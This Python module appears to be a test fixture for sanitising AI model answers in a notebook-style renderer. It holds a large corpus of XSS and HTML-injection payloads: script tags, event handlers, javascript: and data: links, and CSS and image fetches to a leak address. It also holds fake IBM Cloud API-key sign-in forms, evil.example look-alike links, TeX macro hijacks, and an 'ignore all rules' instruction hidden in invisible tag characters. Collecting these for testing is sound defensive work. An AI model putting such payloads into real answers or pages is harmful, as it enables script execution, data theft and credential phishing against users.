"""What a hostile model, or a page that a model read, may put into an answer.

`PAYLOADS` maps a name to a text; `{leak}` stands for an address that must never be asked for
(``text.replace("{leak}", url)``, a test's own counter on the loopback). Script in a payload calls
``alert(1)`` or fetches the address.
"""

# ruff: noqa: E501  (a payload is one line)

from __future__ import annotations

_SCRIPT = {
    "script": "<script>alert(1);fetch('{leak}')</script>",
    "script with a source": "Hello <script src={leak}></script>",
    "script in odd case": "<ScRiPt\n>fetch('{leak}')</sCrIpT\t>",
    "script cut in two": "<scr<script>ipt>fetch('{leak}')</scr</script>ipt>",
    "script after a slash": "<script/x>fetch('{leak}')</script>",
    "script of type module": "<script type=module>import('{leak}')</script>",
    "script in entities": "&lt;script&gt;fetch('{leak}')&lt;/script&gt;",
    "script in numeric entities": "&#60;script&#62;fetch('{leak}')&#x3c;/script&#x3E;",
    "script in a code span": "`</code><script>fetch('{leak}')</script>`",
    "script out of a fence": "```\n</code></pre><script>fetch('{leak}')</script>\n```",
    "script in a fence's language": "```\"><script>fetch('{leak}')</script>\nx\n```",
    "script in a table": "|a|b|\n|-|-|\n|<script>fetch('{leak}')</script>|</td></table><script>1|",
    "script in a heading": "# <script>fetch('{leak}')</script>\n\n<h1 onclick=alert(1)>x</h1>",
    "script out of our wrapper": "</div></div></pre></span><script>fetch('{leak}')</script>",
    "wide less-than": "＜script＞fetch('{leak}')＜/script＞ \u02c2script\u02c3",
}
_HANDLERS = {
    "img onerror": "<img src=x onerror=\"fetch('{leak}')\">",
    "img onerror without quotes": "<img src=x onerror=alert(1)//",
    "img onerror in a paragraph": "text <img/src='x'/onerror=alert(1)> text",
    "body onload": "<body onload=fetch('{leak}')>",
    "details ontoggle": "<details open ontoggle=fetch('{leak}')><summary>x</summary></details>",
    "input autofocus": "<input autofocus onfocus=fetch('{leak}')>",
    "video onerror": "<video><source onerror=fetch('{leak}')></video>",
    "audio": "<audio src={leak} autoplay onerror=alert(1)></audio>",
    "marquee": "<marquee onstart=fetch('{leak}')>x</marquee>",
    "animation event": "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>",
    "pointer over everything": "<div onpointerover=fetch('{leak}') style=position:fixed;inset:0>x</div>",
    "handler in a link": '<a href="#" onclick="fetch(\'{leak}\')">click</a>',
    "handler in a link's title": '[x](http://example.org "a\\" onmouseover=\\"alert(1)")',
    "handler in a link's address": '[x](http://example.org/"onmouseover="alert(1))',
    "handler in an image's text": '![x" onerror="alert(1)]({leak})',
    "handler behind a custom tag": "<x-y onclick=alert(1) tabindex=1 onfocus=alert(1) autofocus>x</x-y>",
}
_SVG_AND_MATHML = {
    "svg script": "<svg><script>fetch('{leak}')</script></svg>",
    "svg onload": "<svg/onload=fetch('{leak}')>",
    "svg image": "<svg><image href={leak} /></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "svg animate to javascript": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src={leak}></iframe></foreignObject></svg>",
    "mathml link": "<math><mtext><a xlink:href='javascript:alert(1)'>x</a></mtext></math>",
    "mathml maction": "<math href='javascript:alert(1)'><maction actiontype=statusline xlink:href='{leak}'>x",
    "namespace confusion: style in math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "namespace confusion: title in svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "namespace confusion: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template><template shadowrootmode=open><img src={leak}></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "textarea and title": "<textarea></textarea><img src={leak}><title></title><img src=x onerror=alert(1)>",
    "xmp and plaintext": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'><plaintext>",
    "comment that ends early": "<!--> <img src=x onerror=alert(1)> --> <!-- --!> <img src={leak}>",
    "cdata and instruction": "<![CDATA[ <img src={leak}> ]]> <?xml version='1.0'?><img src={leak}> <!ENTITY x>",
    "select": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
}
_LINKS = {
    "javascript link": "[click](javascript:alert(1))",
    "javascript link in odd case": "[click](JaVaScRiPt:alert(1))",
    "javascript link with an entity": "[click](java&#115;cript&colon;alert&lpar;1&rpar;)",
    "javascript link with a tab": "[click](<java\tscript:alert(1)>) [click](java&Tab;script:alert(1))",
    "javascript link with a line end": "[click](<java&NewLine;script:alert(1)>) [a](java&#10;script:x)",
    "javascript link with controls": "[click](\x01javascript:alert(1)) [click](<&#1;javascript:alert(1)>)",
    "javascript link with hidden characters": "[click](java\u200bscript:alert(1)) [a](\ufeffjavascript:x)",
    "javascript link percent-encoded": "[click](javascript%3Aalert(1)) [a](%6Aavascript:alert(1))",
    "javascript autolink": "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
    "javascript link by reference": "[click][x]\n\n[x]: javascript:alert(1)",
    "javascript link in raw HTML": "<a href='javascript:alert(1)'>x</a> <a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "data link": "[click](data:text/html,<script>alert(1)</script>) [a](DATA:text/html;base64,PHNjcmlwdD4=)",
    "data image link": "[click](data:image/png;base64,iVBORw0KGgo=)",
    "vbscript link": "[click](vbscript:msgbox(1)) <vbscript:msgbox(1)>",
    "file and blob links": "[a](file:///etc/passwd) [b](blob:http://x/y) [c](filesystem:http://x) [d](about:blank)",
    "view-source and ws links": "[a](view-source:http://x) [b](ws://x) [c](intent://x#Intent;end) [d](tel:1)",
    "relative links": "[a](/files/secret.txt) [b](../api/contents) [c](?token=x) [d](lab/tree) [e](#id)",
    "host-relative links": "[a](//evil.example/x) [b](\\\\evil.example) [c](/\\evil.example) [d](///evil.example)",
    "scheme without slashes": "[a](http:files/x) [b](https:/x) [c](http:///x) [d](http:\\\\evil.example)",
    "user part": "[https://www.ibm.com](https://www.ibm.com@evil.example/) <https://ibm.com:x@evil.example>",
    "wrong host in the text": "[https://cloud.ibm.com/login](http://evil.example/login)",
    "look-alike host": "[ibm.com](http://іbm.com) <http://аррӏе.com>",
    "encoded host": "[a](http://%65vil.example) [b](http://evil%2eexample) [c](http://[::1]/) [d](http://0x7f.1)",
    "markup in the link's text": "[<img src={leak}>](http://example.org) [![x]({leak})]({leak})",
    "receivers that nobody sees": "[IBM](mailto:help@ibm.com?bcc=x@evil.example) [a](mailto:a@ibm.com?subject=x%0abcc:e@evil.example) [b](mailto:e%40evil.example%2Ca@ibm.com)",
    "host whose end is cut": "[log in](https://cloud.ibm.com."
    + "a" * 60
    + "."
    + "b" * 60
    + "."
    + "c" * 60
    + ".evil.example/)",
    "title that names another host": "[log in](http://evil.example 'https://cloud.ibm.com/login')",
    "link with a password field": "[x](http://example.org '<input type=password>')",
    "ping and download": "<a href={leak} ping={leak} download target=_top rel=opener>x</a>",
    "address of ten thousand characters": "[a]: http://example.org/"
    + "x" * 300
    + "\n\n"
    + "[a]" * 40,
}
_FETCHES = {
    "image": "![diagram]({leak})",
    "image with a title": '![diagram]({leak} "title")',
    "image by reference": "![diagram][d]\n\n[d]: {leak}",
    "image by shortcut reference": "![d]\n\n[d]: <{leak}> 'x'",
    "image in a link": "[![x]({leak})](http://example.org)",
    "image in an image": "![a ![b]({leak}) c]({leak})",
    "image in a heading": "![x]({leak})\n===\n\n# ![x]({leak}) #",
    "image in a table": "|![x]({leak})|\n|-|\n|![y]({leak})|",
    "image of data": "![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=)",
    "image in raw HTML": "<img src={leak}> <img srcset='{leak} 1x'> <image src={leak}>",
    "picture and source": "<picture><source srcset={leak}><img src=x></picture>",
    "iframe": "<iframe src={leak}></iframe>",
    "iframe with a document": "<iframe srcdoc=\"<script>fetch('{leak}')</script>\"></iframe>",
    "object and embed": "<object data={leak}></object><embed src={leak}>",
    "link element": "<link rel=stylesheet href={leak}><link rel=prefetch href={leak}>",
    "style import": "<style>@import url({leak}); * {background: url({leak})}</style>",
    "style attribute": '<p style="background:url({leak})">x</p><td background={leak}>',
    "base": "<base href={leak}><base target=_top>",
    "meta refresh": '<meta http-equiv=refresh content="0;url={leak}">',
    "frameset": "<frameset><frame src={leak}></frameset>",
    "track and poster": "<video poster={leak}><track default src={leak}></video>",
    "mermaid fence": '```mermaid\ngraph TD\nA[<img src={leak}>] --> B\nclick A href "{leak}"\n```',
    "vega fence": '```vega-lite\n{"data": {"url": "{leak}"}}\n```',
}
_FAKES = {
    "form": "<form action={leak}><input name=x value=1><button autofocus>Go</button></form>",
    "form that sends itself": "<form id=f action={leak}></form><script>f.submit()</script>",
    "password field": "<label>IBM Cloud API key <input type=password placeholder='API key'></label>",
    "button with another form's action": "<button form=x formaction={leak}>Sign in</button>",
    "overlay": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in</div>",
    "overlay by a class": "<div class='jp-Dialog lm-Widget'><h1 class=jp-Dialog-header>Sign in</h1></div>",
    "ids that hide globals": "<a id=cookie><a id=jupyter-config-data name=body>{}</a><form name=getElementById>",
    "command linker": "<button data-commandlinker-command=notebook:run-all data-commandlinker-args='{}'>x</button>",
    "command linker on a link": "<a href=# data-commandlinker-command='terminal:create-new'>x</a>",
    "dialog": "<dialog open>Sign in</dialog><div popover id=p>x</div><button popovertarget=p>x",
    "contenteditable": "<div contenteditable autofocus onfocus=alert(1)>x</div>",
    "our own wrapper": "</div><div class='wxn-answer mathjax_process'>$\\def\\alpha{H}$</div>",
    "our own span": '<span class="mathjax_process">$\\def\\alpha{HACKED}$</span>',
    "our own span in a fence's language": '```mathjax_process"><span class=mathjax_process>\n$x$\n```',
    "style by a table's alignment": "|a|\n|:-:\" style=\"x|\n|b|\n\n<td style='text-align:center;position:fixed'>x",
}
_TEX = {
    "tex def": r"$\def\alpha{HACKED}\alpha$",
    "tex gdef and let": r"$$\gdef\beta{H}$$ \(\let\gamma\delta\) $\global\def\x{}$",
    "tex newcommand": r"\[\newcommand{\alpha}{H}\renewcommand{\sum}{H}\providecommand{\x}{}\]",
    "tex newenvironment": "$$\n\\newenvironment{align}{H}{}\\renewenvironment{cases}{}{}\n$$",
    "tex operator": r"$\DeclareMathOperator{\sin}{cos}$ $\DeclarePairedDelimiter\abs{(}{)}$",
    "tex href": r"$\href{javascript:alert(1)}{x}$ $\href{{leak}}{x}$ \(\url{{leak}}\)",
    "tex require": r"$\require{html}\require{/../../x}$",
    "tex style and class": r"$\style{position:fixed;inset:0}{x}$ $\class{jp-Dialog}{x}$ $\cssId{a}{x}$",
    "tex data": r"$\data{commandlinker-command=x}{y}$ \(\mmlToken{mi}[onclick=alert(1)]{x}\)",
    "tex image": r"$\includegraphics{{leak}}$ $\unicode[url({leak})]{65}$",
    "tex colour and box": r"$\color{red}x$ $\bbox[background:url({leak})]{x}$ $\colorbox{red}{x}$",
    "tex csname": r"$\csname def\endcsname\alpha{H}$ $\begin{def}x\end{def}$",
    "tex tooltips and toggles": r"$\texttip{x}{y}$ $\mathtip{x}{y}$ $\toggle{a}{b}\endtoggle$",
    "tex labels": r"$\label{x}$ $\ref{x}\eqref{x}$ $\tag{<img src=x onerror=alert(1)>}$",
    "tex rule": r"$\rule{999em}{999em}$ $\kern-99em x$ $\hspace{-99em}x$ $\raise99em{x}$ $\llap{x}$",
    "tex negative spaces": "$" + r"\!" * 60 + "x$",
    "tex line skip": r"$$a\\[-99em]b$$ $$a\\[999cm]b$$",
    "tex with markup": r"$x</span><script>fetch('{leak}')</script>$ $$<img src={leak}>$$",
    "tex that ends itself": r"\(x\)\def\alpha{H}\) $a\)\def\b{c}\($ \[x\]\def\c{d}\]",
    "tex with braces open": r"$a}\def\b{c}{$ \({\) $\def\alpha{H}$ \(}\)",
    "tex comment": "$x %\\def\\alpha{H}\n y$ $%$\\def\\beta{H}$",
    "tex in code": "`$\\def\\a{b}$` and ``\\(\\def\\a{b}\\)``\n\n    $$\\def\\a{b}$$\n\n```tex\n\\[\\def\\a{b}\\]\n```",
    "tex in a link and an image": r"[$\def\a{b}$](http://example.org) ![$\def\a{b}$]({leak})",
    "tex by entities": r"&#36;\def\alpha{H}&#36; &lpar; \&#40;\def\a{b}\&#41; &dollar;\def\a{b}&dollar;",
    "tex by escapes": r"\$\def\alpha{H}\$ \\(\def\a{b}\\) \\[\def\a{b}\\]",
    "tex environment alone": r"\begin{align}\def\alpha{H}\end{align}",
    "tex in pieces": "$\\de\u200bf\\alpha{H}$ $\\d\x00ef\\alpha{H}$",
    "tex in a table": "|$\\def\\a{b}$|\n|-|\n|\\(\\def\\a{b}\\)|",
}
_ELEMENTS = {
    f"{name} with everything": f"<{name} onclick=alert(1) style='position:fixed;inset:0' class=jp-Dialog id=cookie"
    f" title=\"<script>fetch('{{leak}}')</script>\" background={{leak}}>x</{name}>"
    for name in (
        *("sub", "sup", "kbd", "mark", "ins", "del", "u", "s", "b", "i", "em", "strong", "strike"),
        *("code", "tt", "samp", "var", "q", "cite", "small", "ruby", "rt", "rp", "span", "font"),
        *("details", "summary", "br", "hr", "wbr"),
    )
} | {
    "quote with a source": "<q cite={leak}>x</q> <del cite='javascript:alert(1)'>y</del> <ins cite={leak}>z</ins>",
    "element that is not ended": "<kbd onclick=alert(1) x='<b>y</kbd> <mark><img src={leak}></mark> <sub <script>",
    "element in an element's attribute": "<kbd title='<kbd>'><script>fetch('{leak}')</script>'>x</kbd></kbd>",
    "elements across each other": "<b><i>x</b>y</i> *<sub>z*</sub> [<mark>a](http://example.org)</mark>",
    "elements across blocks": "<b>\n\n# x</b>\n\n- </i>\n\n</div></details></details>",
    "details around script": "<details>\n<summary><script>alert(1)</script></summary>\n\n<img src={leak}>\n\n</details>",
    "details open with a handler": "<details open=open ontoggle=fetch('{leak}')>\n<summary onclick=alert(1)>x</summary>\n</details>",
    "details that hide nothing open": '<details "open" =\'open\' open="javascript:alert(1)">x</details>',
    "details in code and quotes": "> <details>\n> <summary>`</details>`\n\n```\n</details><script>alert(1)</script>\n```",
    "comment with script behind": "<!-- x --><script>fetch('{leak}')</script><!--><img src={leak}>-->",
    "comment across blocks": "<!-- <b>\n\n- x --> <img src={leak}>\n\n<!-- never ended <script>alert(1)</script>",
    "direction that was asked for": "<p dir=rtl>x</p> <bdo dir=rtl>evil</bdo> <sub dir=rtl>y</sub> \u05d0",
    "ids in footnotes": "x[^cookie] y[^jupyter-config-data]\n\n[^cookie]: <a id=body name=x>\n[^jupyter-config-data]: {}",
    "script in footnotes": "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: <img src={leak}> [x](javascript:alert(1))",
    "footnotes in each other": "[^a]: [^b]: [^a]\n\n    > [^b]: ![x]({leak})\n\n[^a][^b][^c]",
    "document in a fence": "```markdown\n<script>fetch('{leak}')</script>\n\n![x]({leak})\n\n<span class='mathjax_process'>$\\def\\a{b}$</span>\n```",
    "fences in a fence": "```md\n```html\n<script>alert(1)</script>\n```\n</code></pre><img src={leak}>\n```\n<script>alert(1)</script>",
    "task of script": "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] <img src={leak}>",
    "environment of script": "\\begin{align}<img src={leak}>\\href{javascript:alert(1)}{x}\\end{align}",
    "environment that ends itself": "\\begin{align}x\\end{align}\\def\\a{b}\\end{align} \\begin{cases}\\]\\def\\a{b}\\[\\end{cases}",
    "environment with unusual columns": "\\begin{array}{@{\\def\\a{b}}c}x\\end{array} \\begin{alignat}{999999999}x\\end{alignat}",
}
_INVISIBLE = {
    "bidi override": "\u202eevil\u202c \u2066x\u2069 \u200e\u200f \u061c",
    "bidi override by entities": "&#x202e;evil&#8236; &rlm;&lrm; &#x2066;x",
    "zero width": "pass\u200bword \u2060\u2061\u2062\u2063\u2064 \ufeff a\u200cb\u200dc &ZeroWidthSpace;&zwj;",
    "tag characters": "hello " + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules"),
    "variation selectors": "a\ufe00\ufe01\ufe0f " + "".join(chr(0xE0100 + n) for n in b"secret"),
    "ansi colours": "\x1b[31mred\x1b[0m \x9b31mred \x1b[2J\x1b[1;1H",
    "ansi link and title": "\x1b]8;;{leak}\x07click\x1b]8;;\x07 \x1b]0;title\x07 \x1bP+q\x1b\\ \x1b[?1049h",
    "control characters": "a\x00b\x07c\x08\x08d\x0be\x0cf\x7fg\x80\x85\x9fh\r\ni\rj &#7;&#x1b;[31m&#13;",
    "lone surrogates": "a\ud800b \udfff[x](http://example.org/\ud800) `\udc00`",
    "not characters": "\ufffe\uffff\ufdd0 &#xfffe; &#x110000; &#0;",
    "hidden host": "[ex\u200bample.org](http://evil.example) [exam&#8203;ple.org](http://evil.example)",
    "line separators": "a\u2028b\u2029# c\u2028<script>alert(1)</script>",
}
_STRUCTURE = {
    "nested quotes": "> " * 60 + "<img src={leak}>",
    "nested lists": "\n".join("  " * n + "- <b onclick=alert(1)>" for n in range(20)),
    "nested emphasis": "*" * 120 + "a" + "*" * 120,
    "nested images": "![" * 9 + "a" + "]({leak})" * 9,
    "list that starts late": "999999999. a\n\n2024) b\n",
    "unclosed fence": "```html\n<script>fetch('{leak}')</script>",
    "unclosed everything": "<div><table><tr><td><a href='{leak}'><b><i>`$**[",
    "link definitions": "[a]: {leak} 'x'\n[b]: javascript:alert(1)\n\n[a] [b] ![a] ![b]",
}

#: Pages for ``-f html``, each a way to do something from a sandboxed frame or out of it.
PAGES: dict[str, str] = {
    "script": "<script>parent.pwned='page'; fetch('{leak}')</script><p onclick=alert(1)>x",
    "out of the attribute": '"></iframe><script>pwned=\'srcdoc\'</script><img src={leak} onerror="pwned=1">',
    "out of the attribute by entities": "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;pwned=1&lt;/script&gt;",
    "policy of its own": '<meta http-equiv=Content-Security-Policy content="default-src *"><img src={leak}>',
    "refresh": "<meta http-equiv=refresh content='0;url={leak}'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href='{leak}/' target=_top><img src=x><a href=x>x</a>",
    "link elements": "<link rel=stylesheet href={leak}><link rel=preconnect href={leak}><link rel=dns-prefetch href={leak}><link rel=prerender href={leak}>",
    "links to the top": "<a href={leak} target=_top>x</a><a href='javascript:top.pwned=1' target=_parent>y</a><area href={leak}>",
    "form": "<form action={leak} target=_top><h1>IBM Cloud</h1><input type=password placeholder='API key'><input value=''><textarea></textarea><input type=file><button autofocus formaction={leak}>Sign in</button></form>",
    "frames": "<iframe src={leak}></iframe><iframe srcdoc='<img src={leak}>'></iframe><object data={leak}></object><embed src={leak}><portal src={leak}></portal>",
    "pictures": "<img src={leak}><img srcset='{leak} 2x'><picture><source srcset={leak}><img></picture><input type=image src={leak}><video poster={leak} src={leak}></video>",
    "styles": "<style>@import '{leak}'; @font-face{font-family:f;src:url({leak})} body{font-family:f;background:url({leak}),image-set('{leak}' 1x);cursor:url({leak}),auto;border-image:url({leak}) 1} p::before{content:url({leak})} li{list-style:url({leak})}</style><p>x<ul><li>y</ul>",
    "style attributes": "<p style=\"background:url('{leak}');filter:url({leak}#f);mask:url({leak}#m);clip-path:url({leak}#c);shape-outside:url({leak})\">x</p>",
    "styles that read a field": "<style>input[value^=a]{background:url({leak})} input:focus{background:url({leak})} @media print{p{background:url({leak})}}</style><input value=abc>",
    "svg": "<svg><image href={leak} /><use href='{leak}#x'/><rect fill='url({leak}#p)' filter='url({leak}#f)' width=9 height=9 /><a href={leak}><text y=9>x</text></a><animate attributeName=href to=javascript:alert(1) /><style>@import url({leak});</style></svg>",
    "svg as data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{leak}'/><script>top.pwned=1</script></svg>\">",
    "style that ends twice": "<svg><style>&lt;/style&gt;&lt;img src={leak}&gt;</style></svg><style><\u200b/style><img src={leak}></style><select><style></select><link rel=stylesheet href={leak}></style>",
    "over everything": "<div style='position:fixed;inset:-9999px;z-index:2147483647;background:red;width:99999px;height:99999px'>Sign in</div><dialog open>x</dialog><div popover style='display:block'>y</div>",
    "full screen and permissions": "<iframe allow='fullscreen *;camera *' allowfullscreen src={leak}></iframe><video autoplay controls src={leak}></video><meta name=viewport content='width=99999'>",
}

PAYLOADS: dict[str, str] = (
    _SCRIPT
    | _HANDLERS
    | _SVG_AND_MATHML
    | _LINKS
    | _FETCHES
    | _FAKES
    | _ELEMENTS
    | _TEX
    | _INVISIBLE
    | _STRUCTURE
)
